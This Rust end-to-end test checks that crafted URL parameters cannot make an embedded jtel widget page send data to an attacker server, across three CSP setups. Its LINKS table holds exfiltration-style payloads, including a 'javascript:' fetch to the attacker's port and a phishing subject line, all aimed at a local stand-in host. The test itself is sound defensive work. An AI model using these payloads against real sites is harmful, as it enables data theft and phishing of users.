//! End to end: a link cannot turn the iframe page against its users. The release build is
//! deployed as static files (an axum `ServeDir` and a same-origin stand-in gateway path to the
//! jtel emulator) with a deployment that fixes the routing; a second local server plays the
//! attacker and counts what it receives. Crafted links — the issue's, `base-url` on another
//! port, protocol-relative, `javascript:`, `data:`, same-origin, percent-encoded, camelCase,
//! repeated — open every widget the page can show, in Chromium, on three sites: no CSP at all
//! (the page's `<meta>` removed, so only the page's own logic protects it), the files as
//! released (their `<meta>` CSP, no header) and behind the gateway's CSP header. Each time:
//! nothing leaves the page's origin (the attacker counts 0, Resource Timing lists only the
//! page's files and `/jtel/…`), the page and the console say the link's settings were ignored,
//! and the widget works with the deployment's settings (an event created, a value set).
//! The table is written to `target/reports/link-attacks.txt`.
#![cfg(not(target_arch = "wasm32"))]

mod support;

use fantoccini::Client;
use jtel_emulator::{Config, DEFAULT_TOKEN};
use jtel_widgets::jtel_core::model::{AcdEvent, CockpitVariable};
use std::net::SocketAddr;
use std::path::PathBuf;
use support::attacker::Attacker;
use support::browser::{on_every_new_document, with_browser};
use support::cockpit_steps::{confirm, open_row, propose};
use support::deployment::{deploy, MetaCsp};
use support::widget::{in_widget, type_into, wait_for_text};
use support::{gateway, jtel, report};

/// The deployment under attack: the gateway path, a voice mail to group 236 through the
/// hotline, cockpit variable 192; links may set the display settings only (the default).
const DEPLOYMENT: &str = r#"{
  "base-url": "/jtel",
  "event-type": "voicemail",
  "group": "236",
  "receiver": "4919900112233",
  "variable": "192"
}"#;

/// A deployment whose integrator lets links set the group and the subject: the page applies
/// them and shows the user that the link set them.
const LINKS_SET_GROUP_AND_SUBJECT: &str = r#"{
  "base-url": "/jtel",
  "event-type": "voicemail",
  "receiver": "4919900112233",
  "link-may-set": ["widget", "lang", "group", "subject"]
}"#;

/// The Content-Security-Policy the documented gateway sends.
const GATEWAY_CSP: &str = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; \
    style-src 'self'; connect-src 'self'; img-src 'self' data:; frame-src 'self'; \
    frame-ancestors 'self'; base-uri 'none'; form-action 'none'";

/// The links, `{W}` standing for the widget and `{A}` for the attacker's port.
const LINKS: [(&str, &str); 9] = [
    (
        "the issue's link",
        "widget={W}&event-type=callback&group=235&base-url=http://localhost:{A}/collect&subject=Your%20account%20is%20locked",
    ),
    (
        "another port, same host",
        "widget={W}&base-url=http://127.0.0.1:{A}/collect",
    ),
    (
        "protocol-relative",
        "widget={W}&base-url=//127.0.0.1:{A}/collect",
    ),
    (
        "javascript:",
        "widget={W}&base-url=javascript:fetch(%27http://127.0.0.1:{A}/js%27)//",
    ),
    ("data:", "widget={W}&base-url=data:application/json,%7B%22ID%22:1%7D"),
    ("same origin, another path", "widget={W}&base-url=/collect"),
    (
        "percent-encoded",
        "widget={W}&base%2Durl=http%3A%2F%2F127.0.0.1%3A{A}%2Fcollect",
    ),
    (
        "camelCase, upper case",
        "widget={W}&baseUrl=http://127.0.0.1:{A}/collect&BASE-URL=http://127.0.0.1:{A}/collect",
    ),
    (
        "repeated",
        "widget={W}&base-url=/jtel&base-url=http://127.0.0.1:{A}/collect&lang=en&lang=de",
    ),
];

/// The sites serving the deployment: no CSP at all (the page's `<meta>` removed), the files as
/// released (their `<meta>` CSP, no header), and behind the gateway's CSP header.
const SITES: [&str; 3] = ["no CSP", "meta CSP (as released)", "CSP header + meta"];

/// Every widget the page can show, and the element it creates.
const WIDGETS: [(&str, &str); 3] = [
    ("acd-event-form", "jtel-acd-event-form"),
    ("cockpit-variable", "jtel-cockpit-variable"),
    ("cockpit-variables", "jtel-cockpit-variables"),
];

/// Notes what the page writes with `console.warn`, in `window.jtelWarnings`.
const WATCH_WARNINGS: &str = r#"
window.jtelWarnings = [];
const warn = console.warn.bind(console);
console.warn = (...args) => { window.jtelWarnings.push(args.join(" ")); warn(...args); };
"#;

/// One site serving the deployment.
struct Site {
    name: &'static str,
    addr: SocketAddr,
    dist: PathBuf,
}

/// One line of the attack table.
struct Row {
    link: String,
    site: &'static str,
    did: String,
    left_origin: Vec<String>,
    problems: Vec<String>,
}

/// Everything behind the page: the jtel emulator and the attacker.
struct World {
    jtel_base_url: String,
    attacker: Attacker,
}

impl World {
    async fn events(&self) -> Vec<AcdEvent> {
        jtel::records(&self.jtel_base_url, "acd/events").await
    }

    async fn value_192(&self) -> Option<i64> {
        let path = "cockpitVariables/cockpitVariable/192";
        let single: Vec<CockpitVariable> = jtel::records(&self.jtel_base_url, path).await;
        single
            .into_iter()
            .next()
            .and_then(|variable| variable.value)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_link_sends_data_anywhere_but_the_deployment_says() {
    let emulator = jtel_emulator::spawn(Config::default())
        .await
        .expect("emulator starts");
    let world = std::sync::Arc::new(World {
        jtel_base_url: emulator.base_url(),
        attacker: Attacker::start().await,
    });
    let token = || DEFAULT_TOKEN.to_owned();
    let mut sites = Vec::new();
    for (name, meta, csp) in [
        (SITES[0], MetaCsp::Removed, None),
        (SITES[1], MetaCsp::Kept, None),
        (SITES[2], MetaCsp::Kept, Some(GATEWAY_CSP)),
    ] {
        let dist = deploy(DEPLOYMENT, meta);
        let addr = match csp {
            Some(csp) => {
                gateway::start_with_csp(dist.clone(), emulator.base_url(), token(), csp).await
            }
            None => gateway::start(dist.clone(), emulator.base_url(), token()).await,
        };
        sites.push(Site { name, addr, dist });
    }
    let marking_dist = deploy(LINKS_SET_GROUP_AND_SUBJECT, MetaCsp::Removed);
    let marking = Site {
        name: SITES[0],
        addr: gateway::start(marking_dist.clone(), emulator.base_url(), token()).await,
        dist: marking_dist,
    };

    let shared = std::sync::Arc::clone(&world);
    let (rows, control) = with_browser(move |client| async move {
        let world = shared;
        on_every_new_document(&client, WATCH_WARNINGS).await;
        let mut rows = Vec::new();
        let mut value = 10;
        for site in &sites {
            for (widget, host) in WIDGETS {
                for (name, template) in LINKS {
                    value += 1;
                    let query = template
                        .replace("{W}", widget)
                        .replace("{A}", &world.attacker.port().to_string());
                    let step = Step {
                        client: &client,
                        world: &world,
                        site,
                        host,
                        query: &query,
                        group: "236",
                        link_subject: None,
                    };
                    rows.push(step.attack(&format!("{name} ({widget})"), value).await);
                }
            }
        }
        rows.push(links_set_what_the_deployment_allows(&client, &world, &marking).await);
        // Control: the page's own origin can reach the attacker, so its count of 0 above
        // means nothing was sent, not that nothing could arrive.
        let before = world.attacker.received().len();
        let script = format!(
            "return fetch('http://127.0.0.1:{}/control').then((answer) => answer.status)",
            world.attacker.port()
        );
        client
            .execute(&script, vec![])
            .await
            .expect("control fetch");
        let control = world.attacker.received().len() - before;
        (rows, control)
    })
    .await;

    report::write("link-attacks.txt", &table(&rows, control));
    for row in &rows {
        let first = rows.iter().find(|other| other.link == row.link).unwrap();
        assert_eq!(
            row.did, first.did,
            "{} behaves the same on {} and {}",
            row.link, row.site, first.site
        );
    }
    let failed: Vec<String> = rows
        .iter()
        .filter(|row| !row.problems.is_empty() || !row.left_origin.is_empty())
        .map(|row| {
            format!(
                "{} on {}: {:?} {:?}",
                row.link, row.site, row.problems, row.left_origin
            )
        })
        .collect();
    assert_eq!(failed, Vec::<String>::new(), "every attack is stopped");
    assert_eq!(world.attacker.received(), vec!["GET /control".to_owned()]);
    assert_eq!(control, 1, "the attacker's server counts what reaches it");
}

/// One link opened on one site for one widget.
struct Step<'a> {
    client: &'a Client,
    world: &'a World,
    site: &'a Site,
    host: &'static str,
    query: &'a str,
    /// The group the deployment (or a link it allows) routes a voice mail to.
    group: &'static str,
    /// The subject a link it allows prefills (the user then types none).
    link_subject: Option<&'static str>,
}

impl Step<'_> {
    /// Opens the link, uses the widget as a user would and notes what happened.
    async fn attack(&self, link: &str, value: i64) -> Row {
        let attacker_before = self.world.attacker.received().len();
        let url = format!("http://{}/frame.html?{}", self.site.addr, self.query);
        self.client.goto(&url).await.expect("frame page loads");
        let mut problems = Vec::new();
        let outcome = match self.host {
            "jtel-acd-event-form" => self.create_voice_mail(&mut problems).await,
            "jtel-cockpit-variable" => self.set_value(&mut problems, value).await,
            _ => {
                open_row(self.client, self.host, "Test Cockpit Variable").await;
                self.set_value(&mut problems, value).await
            }
        };
        let notices = notices(self.client).await;
        if !notices
            .iter()
            .any(|notice| notice.starts_with("This page ignored settings"))
        {
            problems.push(format!("no notice of ignored settings: {notices:?}"));
        }
        let warnings = self.warnings().await;
        if !warnings
            .iter()
            .any(|warning| warning.contains("frame.html ignored the link's"))
        {
            problems.push(format!("no console warning: {warnings:?}"));
        }
        let mut left_origin = self.requests_elsewhere().await;
        left_origin.extend(self.world.attacker.received().split_off(attacker_before));
        Row {
            link: link.to_owned(),
            site: self.site.name,
            did: format!(
                "{} (console warnings: {}) → {outcome}",
                notices.join(" "),
                warnings.len()
            ),
            left_origin,
            problems,
        }
    }

    /// Types a sender (and a subject unless the link set one), sends, and checks at the
    /// emulator that one voice mail to the expected group through the hotline arrived.
    async fn create_voice_mail(&self, problems: &mut Vec<String>) -> String {
        let (group, before) = (self.group, self.world.events().await.len());
        type_into(self.client, self.host, "Sender", "0199 123456789").await;
        let subject = match self.link_subject {
            Some(subject) => subject.to_owned(),
            None => {
                type_into(self.client, self.host, "Subject", "Please call me").await;
                "Please call me".to_owned()
            }
        };
        in_widget(self.client, self.host, "button[type=submit]")
            .await
            .click()
            .await
            .expect("click submit");
        in_widget(self.client, self.host, ".jtel-success-text").await;
        let events = self.world.events().await;
        let created: Vec<String> = events[before..]
            .iter()
            .map(|event| {
                format!(
                    "type {:?}, group {:?}, receiver {:?}, subject {:?}",
                    event.acd_event_types_id, event.acd_groups_id, event.receiver, event.subject
                )
            })
            .collect();
        let expected = format!(
            "type Some(1), group Some({group}), receiver Some(\"4919900112233\"), subject Some({subject:?})"
        );
        if created != [expected.clone()] {
            problems.push(format!(
                "expected one event {expected}, jtel got {created:?}"
            ));
        }
        format!("voice mail to group {group} created at jtel")
    }

    /// Sets variable 192 to `value` with the confirmation, and checks it at the emulator.
    async fn set_value(&self, problems: &mut Vec<String>, value: i64) -> String {
        let question = format!("Set 'Test Cockpit Variable' to {value}?");
        propose(self.client, self.host, &value.to_string(), &question).await;
        confirm(self.client, self.host).await;
        wait_for_text(
            self.client,
            self.host,
            ".jtel-success",
            "The value was set.",
        )
        .await;
        let at_jtel = self.world.value_192().await;
        if at_jtel != Some(value) {
            problems.push(format!("variable 192 is {at_jtel:?} at jtel, not {value}"));
        }
        "variable 192 set at jtel".to_owned()
    }

    /// What the page wrote with `console.warn`.
    async fn warnings(&self) -> Vec<String> {
        let warnings = self
            .client
            .execute("return window.jtelWarnings ?? [];", vec![])
            .await
            .expect("warnings");
        serde_json::from_value(warnings).expect("a list of texts")
    }

    /// Every resource the page fetched (Resource Timing) that is neither one of the deployed
    /// files nor under the gateway path `/jtel/` of the page's own origin (a same-origin path
    /// such as `/collect` counts as leaving too).
    async fn requests_elsewhere(&self) -> Vec<String> {
        let names = self
            .client
            .execute(
                "return performance.getEntriesByType('resource').map((entry) => entry.name);",
                vec![],
            )
            .await
            .expect("the page lists its resources");
        let names: Vec<String> = serde_json::from_value(names).expect("a list of URLs");
        let origin = format!("http://{}/", self.site.addr);
        names
            .into_iter()
            .filter(|name| {
                let Some(path) = name.strip_prefix(&origin) else {
                    return true;
                };
                let path = path.split(['?', '#']).next().unwrap_or_default();
                // The browser asks for the site's icon on its own; it is not the page's request.
                let page_files = path == "favicon.ico" || self.site.dist.join(path).is_file();
                !(path.starts_with("jtel/") || page_files)
            })
            .collect()
    }
}

/// A deployment that lets links set the group and the subject: the page applies them, says
/// so, still ignores the link's `base-url`, and the event goes to the gateway.
async fn links_set_what_the_deployment_allows(client: &Client, world: &World, site: &Site) -> Row {
    let query = format!(
        "widget=acd-event-form&group=235&subject=Your%20account%20is%20locked&base-url=http://127.0.0.1:{}/collect",
        world.attacker.port()
    );
    let step = Step {
        client,
        world,
        site,
        host: "jtel-acd-event-form",
        query: &query,
        group: "235",
        link_subject: Some("Your account is locked"),
    };
    let mut row = step
        .attack("link-may-set: group, subject (acd-event-form)", 0)
        .await;
    let notices = notices(client).await;
    let marked = "Set by the link you followed, not by this website: group “235”, subject “Your account is locked”.";
    if !notices.iter().any(|notice| notice == marked) {
        row.problems
            .push(format!("the link's settings are not marked: {notices:?}"));
    }
    row
}

/// The texts of the page's notices about the link.
async fn notices(client: &Client) -> Vec<String> {
    let texts = client
        .execute(
            "return [...document.querySelectorAll('.jtel-frame-notice')].map((p) => p.textContent);",
            vec![],
        )
        .await
        .expect("notices");
    serde_json::from_value(texts).expect("a list of texts")
}

/// The attack table for the report: one line per link and widget, what the page did (the
/// same on every site) and how many requests left the origin and gateway path on each site.
fn table(rows: &[Row], control: usize) -> String {
    let mut text = format!(
        "Links against frame.html: what the page did, and the requests that left the page's\n\
         origin and gateway path (Resource Timing + the attacker's count) on each site.\n\n\
         | link (widget) | what the page did | {} |\n|---|---|---|---|---|\n",
        SITES.join(" | ")
    );
    let mut links: Vec<&str> = Vec::new();
    for row in rows {
        if !links.contains(&row.link.as_str()) {
            links.push(&row.link);
        }
    }
    for link in links {
        let on: Vec<&Row> = rows.iter().filter(|row| row.link == link).collect();
        let counts: Vec<String> = SITES
            .iter()
            .map(|site| match on.iter().find(|row| row.site == *site) {
                Some(row) if row.problems.is_empty() => row.left_origin.len().to_string(),
                Some(row) => format!(
                    "{} FAILED: {}",
                    row.left_origin.len(),
                    row.problems.join("; ")
                ),
                None => "not run".to_owned(),
            })
            .collect();
        text.push_str(&format!(
            "| {link} | {} | {} |\n",
            on[0].did,
            counts.join(" | ")
        ));
    }
    text.push_str(&format!(
        "\nControl: a fetch from the page to the attacker's server reached it {control} time(s).\n"
    ));
    text
}
